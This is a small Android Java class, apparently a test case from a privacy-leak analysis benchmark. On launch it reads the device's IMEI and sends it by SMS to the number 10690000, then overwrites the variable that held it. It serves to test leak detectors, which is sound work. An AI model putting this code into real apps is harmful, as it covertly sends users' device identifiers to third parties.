package cn.privlens.suite.strong_update_after;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Report { String body; }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Report report = new Report();
        report.body = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        SmsManager.getDefault().sendTextMessage("10690000", null, report.body, null, null);
        report.body = "ok";
    }
}
